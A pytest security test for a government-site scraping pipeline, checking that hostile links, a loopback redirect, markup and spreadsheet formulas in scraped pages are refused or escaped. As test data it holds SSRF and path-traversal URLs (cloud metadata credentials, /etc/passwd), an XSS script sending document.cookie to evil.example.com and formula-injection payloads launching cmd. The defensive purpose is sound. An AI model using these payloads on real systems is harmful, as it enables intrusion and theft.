"""Hostile content from a scraped site, end to end: listing links that point off-site, at the local
machine or private networks, or that climb out of the path; an article that redirects to a
loopback service; markup and spreadsheet formulas in release titles and text.

The MOE site is the replay with a scenario overlay made here (ReplayServer `extra_roots`): one
listing full of such links and three on-site articles. A decoy HTTP service listens on another
loopback port: whatever the crawler does, it must never receive a request. The run goes all the
way to the published warehouse, its Parquet exports and the HTML report.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import duckdb
import pytest
from selectolax.lexbor import LexborHTMLParser

from demo.replay.server import ReplayServer
from eduopen import pipeline
from eduopen.core.paths import Home
from eduopen.report.html import build_report
from ingest.sources.base import IngestSummary
from tests.reliability.conftest import CleanRun, copy_home, run_steps, use_env
from tests.reliability.support import RECORDED_ON, SOURCES, query, run_env
from tests.support import FaultServer, RecordedRequest

pytestmark = pytest.mark.timeout(240)

LISTING = "jyb_xwfb/s5147/index.html"
DAY = RECORDED_ON.replace("-", "")
SCRIPT_TITLE = (
    "<script>document.title='pwned'</script><img src=x onerror=\"document.body.dataset.pwned=1\">来华留学工作通知"
)
FORMULA_TITLE = '=HYPERLINK("http://evil.example.com/?leak="&A1,"点击查看")'
FORMULA_CELLS = ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
ARTICLES = {
    "script": f"202611/t{DAY}_9900001.html",
    "formula": f"202611/t{DAY}_9900002.html",
    "redirect": f"202611/t{DAY}_9900003.html",
}


def hostile_links(decoy_port: int) -> list[str]:
    return [
        "file:///etc/passwd",
        f"http://127.0.0.1:{decoy_port}/internal/admin.html",
        f"http://localhost:{decoy_port}/internal/admin.html",
        f"HTTP://127.0.0.1:{decoy_port}/upper-case-scheme.html",
        f"http://[::1]:{decoy_port}/ipv6-loopback.html",
        f"http://www.moe.gov.cn@127.0.0.1:{decoy_port}/userinfo-trick.html",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://10.0.0.1/admin/",
        "http://192.168.1.1/cgi-bin/login",
        "//evil.example.com/jyb_xwfb/s5147/202611/t20261120_1.html",
        "https://evil.example.com/jyb_xwfb/s5147/202611/t20261120_2.html",
        "./%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "./%2E%2E%2F%2E%2E%2F%2E%2E%2Fetc%2Fshadow",
        "..\\..\\..\\..\\windows\\win.ini",
        "data:text/html,<script>alert(1)</script>",
        "javascript:alert(document.cookie)",
    ]


def listing_page(links: list[str]) -> str:
    entries = [
        (f"./{ARTICLES['script']}", "通知"),
        (f"./{ARTICLES['formula']}", "公告"),
        (f"./{ARTICLES['redirect']}", "转载"),
    ] + [(link, "链接") for link in links]
    items = "\n".join(
        f'<li><a href="{href.replace(chr(34), "&quot;")}" title="{title}">{title}</a><span>{RECORDED_ON}</span></li>'
        for href, title in entries
    )
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>新闻发布</title></head><body>
<div id="wcmpagehtml"><ul id="list">
{items}
</ul></div><script>createPageHTML(1, 0, "index", "html");</script></body></html>"""


def article_page(title: str, paragraphs: list[str]) -> str:
    def attr(text: str) -> str:
        return text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;").replace(">", "&gt;")

    body = "\n".join(f"<p>{attr(p)}</p>" for p in paragraphs)
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8">
<meta name="ArticleTitle" content="{attr(title)}">
<meta name="PubDate" content="{RECORDED_ON} 10:00">
<meta name="ContentSource" content="教育部国际合作与交流司">
<title>{attr(title)}</title></head><body>
<div class="moe-detail-box"><h1>{attr(title)}</h1>
<div class="moe-detail-content"><div class="TRS_Editor">
{body}
</div></div></div></body></html>"""


def write_overlay(root: Path, decoy_port: int) -> Path:
    column = root / "moe_zh" / "jyb_xwfb" / "s5147"
    (column / "202611").mkdir(parents=True)
    (root / "moe_zh" / LISTING).write_text(listing_page(hostile_links(decoy_port)), encoding="utf-8")
    (column / ARTICLES["script"]).write_text(
        article_page(
            SCRIPT_TITLE,
            [
                "教育部发布通知。<script>fetch('http://evil.example.com/'+document.cookie)</script>",
                '<iframe src="javascript:alert(1)"></iframe>请各单位认真落实。',
            ],
        ),
        encoding="utf-8",
    )
    (column / ARTICLES["formula"]).write_text(article_page(FORMULA_TITLE, list(FORMULA_CELLS)), encoding="utf-8")
    redirect = column / ARTICLES["redirect"]
    redirect.write_text("<html><body>moved</body></html>", encoding="utf-8")
    redirect.with_name(redirect.name + ".headers.json").write_text(
        json.dumps({"status": 302, "Location": f"http://127.0.0.1:{decoy_port}/internal/stolen.html"}), encoding="utf-8"
    )
    return root


@dataclass
class HostileRun:
    home: Home
    first_fetch_id: int  # fetch_log rows from this run, not from the clean run the home was copied from
    summary: IngestSummary
    replay_netlocs: set[str]
    replay_paths: list[str]
    decoy_requests: list[RecordedRequest]
    report_html: str


@pytest.fixture(scope="module")
def hostile(clean_run: CleanRun, tmp_path_factory: pytest.TempPathFactory) -> HostileRun:
    base = tmp_path_factory.mktemp("hostile")
    home = copy_home(clean_run.published, base / "home")
    with FaultServer() as decoy:
        overlay = write_overlay(base / "overlay", decoy.port)
        with ReplayServer(list(SOURCES), extra_roots=[overlay]) as replay, pytest.MonkeyPatch.context() as mp:
            use_env(mp, run_env(home, clean_run.sources_file, replay.env()))
            ((last_before,),) = query(home.catalog, "select max(fetch_id) from fetch_log")
            summaries = {s.source: s for s in pipeline.ingest(["all"], home)}
            run_steps(home, ingest=False)
            report = build_report(home)
            netlocs = {urlsplit(url).netloc for url in replay.env().values() if url.startswith("http")}
            paths = [r.path for r in replay.requests()]
        decoy_requests = decoy.requests
    return HostileRun(
        home, last_before + 1, summaries["moe_zh"], netlocs, paths, decoy_requests, report.read_text(encoding="utf-8")
    )


def test_links_to_other_hosts_file_urls_loopback_and_private_addresses_are_never_requested(hostile):
    assert hostile.decoy_requests == []
    fetched = {
        urlsplit(url).netloc
        for (url,) in query(
            hostile.home.catalog, "select url from fetch_log where fetch_id >= ?", [hostile.first_fetch_id]
        )
    }
    assert fetched <= hostile.replay_netlocs  # not one request left the replayed sites
    stored = {urlsplit(url).netloc for (url,) in query(hostile.home.catalog, "select url from release_version")}
    assert stored == {"www.moe.gov.cn"}
    assert any("link off-site; not fetched" in note for note in hostile.summary.notes)


def test_encoded_path_traversal_and_backslash_links_are_not_requested(hostile):
    climbing = [p for p in hostile.replay_paths if "%2e" in p.lower() or ".." in p or "\\" in p or "%5c" in p.lower()]
    assert climbing == []
    assert query(
        hostile.home.catalog,
        "select count(*) from release_version where url like '%passwd%' or url like '%shadow%' or url like '%win.ini%'",
    ) == [(0,)]


def test_article_redirecting_to_a_loopback_service_is_refused_and_quarantined(hostile):
    url = "http://www.moe.gov.cn/jyb_xwfb/s5147/" + ARTICLES["redirect"]
    ((reason, detail),) = query(hostile.home.catalog, "select reason, detail from quarantine where locator = ?", [url])
    assert reason == "article_fetch_failed" and "refused (host 127.0.0.1:" in detail
    assert hostile.decoy_requests == []


def test_markup_in_a_scraped_title_is_kept_as_text_and_escaped_in_the_report(hostile):
    # Kept: raw is lossless, the published mart holds the title exactly as the site wrote it.
    titles = {t for (t,) in query(hostile.home.warehouse, "select title from marts.fct_policy_release")}
    assert SCRIPT_TITLE in titles
    # Escaped: in the report it is text, not elements.
    tree = LexborHTMLParser(hostile.report_html)
    assert tree.css("script") == [] and tree.css("iframe") == []
    assert not [n for n in tree.css("*") if any(a.lower().startswith("on") for a in n.attributes)]
    assert any(SCRIPT_TITLE in cell.text() for cell in tree.css("td.title"))  # shown, as text
    assert "&lt;script&gt;document.title=" in hostile.report_html


def test_formula_text_survives_unchanged_in_parquet_and_no_csv_is_exported(hostile):
    exports = hostile.home.exports
    assert sorted(p.suffix for p in exports.iterdir()) == [".parquet"] * len(list(exports.iterdir()))
    # What analysts are handed (exports, docs) holds no CSV; dbt's own seed copies are build files.
    assert [p for folder in (exports, hostile.home.docs) for p in folder.rglob("*.csv")] == []
    parquet = exports / "fct_policy_release.parquet"
    con = duckdb.connect()
    try:
        rows = con.execute(
            "select title, body_text from read_parquet(?) where title = ?", [str(parquet), FORMULA_TITLE]
        ).fetchall()
    finally:
        con.close()
    # Parquet is typed data, not a spreadsheet: the cell is a string and stays exactly what was
    # published (no quote prefix that would corrupt it for every non-spreadsheet reader).
    assert len(rows) == 1
    title, body = rows[0]
    assert title == FORMULA_TITLE
    assert body.split("\n") == list(FORMULA_CELLS)
